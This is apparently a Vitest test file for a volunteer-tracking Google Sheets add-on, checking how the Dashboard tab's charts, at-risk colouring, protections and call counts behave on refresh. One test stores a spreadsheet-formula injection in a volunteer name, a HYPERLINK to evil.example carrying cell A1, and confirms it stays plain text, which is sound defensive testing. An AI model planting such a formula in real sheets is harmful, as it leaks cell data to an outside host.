/// <reference types="google-apps-script" />
import { describe, expect, it } from 'vitest';
import { hoursTab, type HoursEntry } from '../../../shared/records/hours';
import { volunteersTab } from '../../../shared/records/volunteer';
import { asLead, sheetState } from '../as-lead';
import { runOk } from '../built-bundle';
import { rosterOf, setSetting, setUpDemo, type Demo } from '../daily-run-fixture';
import { block, DASHBOARD, dashboardSheet, rowOf, table, typeRows } from './dashboard-fixture';

// How the Dashboard tab is written: charts over the right cells, the at-risk rows coloured, the same
// tab after a second refresh, text kept as text, the tab still protected (warning only), and a fixed number of Google
// calls whatever the rows.

const refresh = (demo: Demo) => demo.sandbox.run('refreshDashboard', [demo.cilId]);

function refreshed(): Demo {
  const demo = setUpDemo();
  runOk(demo.sandbox, 'refreshDashboard', [demo.cilId]);
  return demo;
}

/** What a refresh may change in the tab. */
function tabOf(demo: Demo) {
  const { values, numberFormats, styles, charts, conditionalFormats, protections, maxRows, maxColumns } = dashboardSheet(demo);
  return structuredClone({ values, numberFormats, styles, charts, conditionalFormats, protections, maxRows, maxColumns });
}

describe('the Dashboard charts', () => {
  it('plot weekly hours against commitment, and the attendance trend, from the blocks they sit beside', () => {
    const demo = refreshed();
    const sheet = dashboardSheet(demo);
    expect(sheet.charts.map((chart) => [chart.type, chart.options.title, chart.numHeaders])).toEqual([
      ['COLUMN', 'Weekly hours against commitment', 1],
      ['LINE', 'Attendance trend', 1],
    ]);
    const [hours, trend] = sheet.charts;
    const hoursRow = rowOf(demo, 'Weekly hours and attendance') + 1;
    expect(hours!.ranges).toEqual([{ sheetId: sheet.sheetId, row: hoursRow, column: 1, numRows: 9, numColumns: 3 }]);
    expect(sheet.values[hoursRow - 1]!.slice(0, 3)).toEqual(['Week', 'Hours logged', 'Hours committed']);
    expect(sheet.values.slice(hoursRow, hoursRow + 8).map((row) => row[0])).toEqual(['2026-W41', '2026-W42', '2026-W43', '2026-W44', '2026-W45', '2026-W46', '2026-W47', '2026-W48']);
    const trendRow = rowOf(demo, 'Attendance trend by month') + 1;
    expect(trend!.ranges).toEqual([{ sheetId: sheet.sheetId, row: trendRow, column: 1, numRows: 7, numColumns: 4 }]);
    expect(sheet.values[trendRow - 1]!.slice(0, 4)).toEqual(['Month', 'Calls and meetups', 'Monthly CfP calls', 'CIL meetups']);
    // Beside the grid, not over it.
    const width = Math.max(...sheet.values.map((row) => row.length));
    expect(sheet.charts.every((chart) => chart.position.column > width)).toBe(true);
    expect(sheet.numberFormats[trendRow + 5]![1]).toBe('0%');
  });

  it('are updated in place by the next refresh, which leaves a lead’s own chart alone', () => {
    const demo = refreshed();
    const ids = dashboardSheet(demo).charts.map((chart) => chart.id);
    asLead(
      demo.sandbox,
      (id: string) => {
        const sheet = SpreadsheetApp.openById(id).getSheetByName('Dashboard')!;
        sheet.insertChart(sheet.newChart().asPieChart().addRange(sheet.getRange('A4:B5')).setPosition(60, 2, 0, 0).setOption('title', 'Mine').build());
      },
      [demo.spreadsheetId],
    );
    // More weeks on the dashboard: the hours chart's range grows with its block.
    setSetting(demo, 'Dashboard weeks', 10);
    runOk(demo.sandbox, 'refreshDashboard', [demo.cilId]);
    const charts = dashboardSheet(demo).charts;
    expect(charts.map((chart) => chart.id)).toEqual([...ids, 3]);
    expect(charts.map((chart) => chart.options.title)).toEqual(['Weekly hours against commitment', 'Attendance trend', 'Mine']);
    expect(charts[0]!.ranges[0]).toMatchObject({ row: rowOf(demo, 'Weekly hours and attendance') + 1, numRows: 11 });
  });
});

describe('the at-risk list', () => {
  it('is coloured by standing with conditional formats over exactly its rows', () => {
    const demo = refreshed();
    const first = rowOf(demo, 'At risk') + 2;
    expect(table(demo, 'At risk').map((row) => row.Name)).toEqual(['Omar Farooq', 'Ali Hassan']);
    expect(dashboardSheet(demo).conditionalFormats).toEqual([
      { condition: 'CUSTOM_FORMULA', args: [`=$C${first}="inactive"`], background: '#f4c7c3', fontColor: null, bold: null, ranges: [{ row: first, column: 1, numRows: 2, numColumns: 10 }] },
      { condition: 'CUSTOM_FORMULA', args: [`=$C${first}="at risk"`], background: '#fce8b2', fontColor: null, bold: null, ranges: [{ row: first, column: 1, numRows: 2, numColumns: 10 }] },
    ]);
    expect(dashboardSheet(demo).values[first - 2]![2]).toBe('Standing');
  });

  it("loses its rules when nobody is at risk, and a lead's own rule stays", () => {
    const demo = refreshed();
    asLead(
      demo.sandbox,
      (id: string) => {
        const sheet = SpreadsheetApp.openById(id).getSheetByName('Dashboard')!;
        const mine = SpreadsheetApp.newConditionalFormatRule().whenTextEqualTo('met').setBold(true).setRanges([sheet.getRange('D1:D40')]).build();
        sheet.setConditionalFormatRules([...sheet.getConditionalFormatRules(), mine]);
        // The two members at risk leave the CIL.
        const roster = SpreadsheetApp.openById(id).getSheetByName('Volunteers')!;
        const values = roster.getDataRange().getValues();
        const status = values[0]!.indexOf('Status');
        values.forEach((row, i) => {
          if (row[1] === 'Omar Farooq' || row[1] === 'Ali Hassan') roster.getRange(i + 1, status + 1).setValue('alumni');
        });
      },
      [demo.spreadsheetId],
    );
    runOk(demo.sandbox, 'refreshDashboard', [demo.cilId]);
    expect(block(demo, 'At risk')).toEqual([['Nobody is at risk or inactive today.']]);
    expect(dashboardSheet(demo).conditionalFormats.map((rule) => [rule.condition, rule.args])).toEqual([['TEXT_EQUAL_TO', ['met']]]);
  });
});

describe('a refresh', () => {
  it('twice gives the same tab: the same cells, formats, charts and rules', () => {
    const demo = refreshed();
    const once = tabOf(demo);
    runOk(demo.sandbox, 'refreshDashboard', [demo.cilId]);
    expect(tabOf(demo)).toEqual(once);
    expect(once.charts).toHaveLength(2);
  });

  it('keeps a volunteer\'s name as text, never a formula', () => {
    const demo = setUpDemo();
    const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    typeRows(demo, volunteersTab, [{ id: 'v-hostile', name, email: 'hostile@example.org', role: 'member', status: 'active', joinedOn: '2026-11-01' }]);
    runOk(demo.sandbox, 'refreshDashboard', [demo.cilId]);
    const sheet = dashboardSheet(demo);
    expect(sheet.formulas ?? {}).toEqual({});
    expect(table(demo, 'Hours a week against commitment').some((row) => row.Name === name)).toBe(true);
    expect(sheet.values.flat().filter((cell) => cell === name).length).toBeGreaterThanOrEqual(2);
  });

  it('leaves the tab protected (a warning before a hand edit), with its colours written in one call over the whole grid', () => {
    const demo = setUpDemo();
    const protections = structuredClone(dashboardSheet(demo).protections);
    const result = refresh(demo);
    expect(result.error).toBeNull();
    expect(dashboardSheet(demo).protections).toEqual(protections);
    expect(protections).toHaveLength(1);
    expect(protections[0]).toMatchObject({ range: null, warningOnly: true });
    for (const method of ['Sheet.clear', 'Range.setValues', 'Range.setNumberFormats', 'Range.setBackgrounds', 'Range.setFontWeights', 'Sheet.setConditionalFormatRules']) {
      expect(result.meter.callsByMethod[method], method).toBe(1);
    }
    const hoursRow = rowOf(demo, 'Hours a week against commitment') + 2;
    const backgrounds = asLead(demo.sandbox, (id: string, row: number) => SpreadsheetApp.openById(id).getSheetByName('Dashboard')!.getRange(row, 5, 1, 7).getBackgrounds()[0], [demo.spreadsheetId, hoursRow]);
    expect(backgrounds!.every((color) => color === '#d9ead3' || color === '#f4cccc')).toBe(true);
  });

  it('reads each tab once and makes as many calls for a long history as for a short one', () => {
    const short = setUpDemo();
    const long = setUpDemo();
    const roster = rosterOf(long);
    const entries: HoursEntry[] = [];
    for (let day = 0; day < 700; day++) {
      const date = new Date(Date.UTC(2024, 11, 1) + day * 86_400_000).toISOString().slice(0, 10) as HoursEntry['day'];
      for (const volunteer of roster) {
        entries.push({ id: `old-${day}-${volunteer.id}`, volunteerId: volunteer.id, day: date, hours: 1, category: 'project work', source: 'sheet', loggedAt: `${date}T12:00:00.000Z` as HoursEntry['loggedAt'] });
      }
    }
    typeRows(long, hoursTab, entries);
    const a = refresh(short);
    const b = refresh(long);
    expect([a.error, b.error]).toEqual([null, null]);
    expect(b.meter.serviceCalls).toBe(a.meter.serviceCalls);
    expect(b.meter.callsByMethod).toEqual(a.meter.callsByMethod);
    // Settings, the rules engine's eight tabs, Stories and Citizens.
    expect(a.meter.callsByMethod['Range.getValues']).toBe(11);
    expect(b.meter.cellsRead).toBeGreaterThan(a.meter.cellsRead + entries.length);
    console.log(`refreshDashboard, demo CIL: ${a.meter.serviceCalls} service calls, ${a.meter.cellsRead} cells read, ${a.meter.cellsWritten} written; with ${entries.length} more hours rows: ${b.meter.serviceCalls} calls`);
  });

  it('names a missing Dashboard tab and changes nothing', () => {
    const demo = setUpDemo();
    asLead(demo.sandbox, (id: string) => {
      const book = SpreadsheetApp.openById(id);
      book.deleteSheet(book.getSheetByName('Dashboard')!);
    }, [demo.spreadsheetId]);
    const before = structuredClone(demo.sandbox.state.spreadsheets[demo.spreadsheetId]);
    const result = refresh(demo);
    expect(result.error).toBe('TabProblem: The "Dashboard" tab is missing. Run CIL Hub › Set up this CIL to restore it.');
    expect(demo.sandbox.state.spreadsheets[demo.spreadsheetId]).toEqual(before);
  });

  it("follows the lead's targets and weeks in Settings", () => {
    const demo = setUpDemo();
    setSetting(demo, 'Target: events per quarter', 2);
    setSetting(demo, 'Target: hours per quarter', 100);
    setSetting(demo, 'Dashboard weeks', 4);
    runOk(demo.sandbox, 'refreshDashboard', [demo.cilId]);
    const review = table(demo, 'Quarterly review');
    expect(review.find((row) => row['Key result'] === 'Events held')).toMatchObject({ Target: 2, Status: 'behind' });
    expect(review.find((row) => row['Key result'] === 'Hours logged')).toMatchObject({ Target: 100, Status: 'met' });
    expect(block(demo, 'Hours a week against commitment')[0]!.slice(4, 8)).toEqual(['2026-W45', '2026-W46', '2026-W47', '2026-W48']);
  });

  it('widens the tab for a year of weeks, the charts still beside the grid', () => {
    const demo = setUpDemo();
    setSetting(demo, 'Dashboard weeks', 52);
    runOk(demo.sandbox, 'refreshDashboard', [demo.cilId]);
    const sheet = dashboardSheet(demo);
    expect(block(demo, 'Hours a week against commitment')[0]).toHaveLength(4 + 52 + 2);
    expect(sheet.charts.map((chart) => chart.position.column)).toEqual([60, 60]);
    expect(sheet.maxColumns).toBe(60);
    expect(sheet.charts[0]!.ranges[0]!.numRows).toBe(53);
  });

  it('is on the CIL Hub menu, for the spreadsheet the lead has open, and says what it did', () => {
    const demo = setUpDemo();
    asLead(demo.sandbox, (id: string) => SpreadsheetApp.openById(id).getSheetByName('Dashboard')!.clearContents(), [demo.spreadsheetId]);
    demo.sandbox.openSpreadsheet(demo.spreadsheetId);
    const result = demo.sandbox.chooseMenuItem(demo.spreadsheetId, 'refreshDashboardFromMenu');
    expect(result.error).toBeNull();
    expect(demo.sandbox.state.ui.shown.at(-1)).toMatchObject({
      kind: 'alert',
      title: 'Refresh dashboard',
      content: expect.stringMatching(/^Refreshed the Dashboard of CIL Demo: 2 on the at-risk list; 2026-Q4 targets: \d+ met, \d+ behind\.$/),
    });
    expect(sheetState(demo.sandbox, demo.spreadsheetId, DASHBOARD).values[0]![0]).toBe('CIL Demo dashboard');
  });

  it('from the menu, says what stopped it in the alert, not as a script error', () => {
    const demo = setUpDemo();
    asLead(demo.sandbox, (id: string) => {
      const book = SpreadsheetApp.openById(id);
      book.deleteSheet(book.getSheetByName('Dashboard')!);
    }, [demo.spreadsheetId]);
    demo.sandbox.openSpreadsheet(demo.spreadsheetId);
    const result = demo.sandbox.chooseMenuItem(demo.spreadsheetId, 'refreshDashboardFromMenu');
    expect(result.error).toBeNull();
    expect(demo.sandbox.state.ui.shown.at(-1)).toMatchObject({
      kind: 'alert',
      content: 'The Dashboard was not refreshed: The "Dashboard" tab is missing. Run CIL Hub › Set up this CIL to restore it.',
    });
  });
});
